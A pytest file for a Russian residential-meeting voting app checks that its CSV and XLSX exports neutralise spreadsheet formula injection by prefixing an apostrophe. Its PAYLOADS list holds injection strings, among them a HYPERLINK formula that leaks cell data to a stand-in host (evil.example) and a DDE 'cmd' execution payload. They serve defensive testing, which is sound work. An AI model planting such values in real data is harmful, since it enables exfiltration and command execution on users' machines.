"""Every spreadsheet export × every first character a spreadsheet takes for a formula: the cell arrives as text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from registry import template_file
from registry.models import Municipality, Owner, Region
from tests.factories import building, flat, inspector_of, sign_in_directly, staff_of, user
from voting.core.exports import neutralise
from voting.core.extensions import db
from voting.meetings import lifecycle
from voting.meetings.models import AgendaItem, Meeting, MeetingForm, MeetingKind, MeetingState

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1;"Нажмите")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
            "\t=1+1", "\r=1+1", " =1+1"]


def _csv_cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    delimiter = ";" if text.split("\n", 1)[0].count(";") else ","
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def _xlsx_cells(body: bytes) -> list[object]:
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell in the export"
    # XML reads a CR in text as LF (line-end normalisation): compare as it will be read
    return [c.value.replace("\n", "\r") if isinstance(c.value, str) else c.value for c in cells]


def _non_voters(client, payload: str) -> list[object]:
    item = building(rows=[flat("1"), flat("2", owner="Петров Пётр Петрович")])
    db.session.scalars(select(Owner).where(Owner.building_id == item.id)).first().name = payload
    now = datetime.now(UTC)
    meeting = Meeting(building=item, kind=MeetingKind.EXTRAORDINARY, form=MeetingForm.ELECTRONIC,
                      state=MeetingState.ANNOUNCED, opens_at=now - timedelta(hours=1),
                      closes_at=now + timedelta(days=5),
                      notice_date=(now - timedelta(days=11)).date())
    db.session.add_all([meeting, AgendaItem(meeting=meeting, number=1, title="Избрать председателя", subject="44.2.5")])
    db.session.flush()
    assert lifecycle.advance(meeting)  # the manifest (with the owner's name) is frozen now
    sign_in_directly(client, staff_of(item.organisation))
    response = client.get(f"/meetings/{meeting.id}/non-voters.csv")
    assert response.status_code == 200 and response.data.startswith("\ufeff".encode())
    assert response.data.decode("utf-8-sig").startswith("Помещение;Собственник;")  # Russian headers, ';'
    return _csv_cells(response.data)


def _protocols(client, payload: str) -> list[object]:
    item = building()
    item.organisation.name = payload
    db.session.add(Meeting(building=item, kind=MeetingKind.ANNUAL, form=MeetingForm.ELECTRONIC,
                           state=MeetingState.CLOSED, notice_date=datetime(2026, 9, 1).date(),
                           opens_at=datetime(2026, 9, 12, tzinfo=UTC), closes_at=datetime(2026, 9, 20, tzinfo=UTC)))
    db.session.flush()
    sign_in_directly(client, inspector_of(municipality=item.municipality))
    response = client.get("/inspection/protocols.csv")
    assert response.status_code == 200 and response.data.startswith("\ufeff".encode())
    return _csv_cells(response.data)


def _indicator(extension: str):
    def export(client, payload: str) -> list[object]:
        building()
        region = db.session.scalars(select(Region).order_by(Region.id)).first()
        db.session.add(Municipality(region=region, name=payload, short_name="x", population=1))
        db.session.flush()
        sign_in_directly(client, user(is_operator=True))
        response = client.get(f"/indicators/export.{extension}")
        assert response.status_code == 200
        return _csv_cells(response.data) if extension == "csv" else _xlsx_cells(response.data)
    return export


def _template(extension: str):
    def export(client, payload: str) -> list[object]:
        rows = (*template_file.EXAMPLE_ROWS, {"premises": "5", "premises_kind": "жилое", "area": "40,00",
                                              "owner": payload, "ownership": "индивидуальная"})
        _patch.setattr(template_file, "EXAMPLE_ROWS", rows)
        response = client.get(f"/buildings/register-template.{extension}")
        assert response.status_code == 200
        return _csv_cells(response.data) if extension == "csv" else _xlsx_cells(response.data)
    return export


_patch = pytest.MonkeyPatch()
EXPORTS = {"non-voters.csv": _non_voters, "protocols.csv": _protocols, "indicator.csv": _indicator("csv"),
           "indicator.xlsx": _indicator("xlsx"), "register-template.csv": _template("csv"),
           "register-template.xlsx": _template("xlsx")}


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
@pytest.mark.parametrize("export", EXPORTS)
def test_formula_like_cells_arrive_as_text(client, export: str, payload: str) -> None:
    try:
        cells = EXPORTS[export](client, payload)
    finally:
        _patch.undo()
    assert payload not in cells, f"{export}: {payload!r} as it was"
    assert "'" + payload in cells, f"{export}: {payload!r} not found neutralised"


@pytest.mark.parametrize(("value", "expected"), [
    ("Иванов", "Иванов"), ("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@a", "'@a"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("a=1", "a=1"), ("", ""), (-5, -5), (None, None)])
def test_neutralise_boundaries(value: object, expected: object) -> None:
    assert neutralise(value) == expected
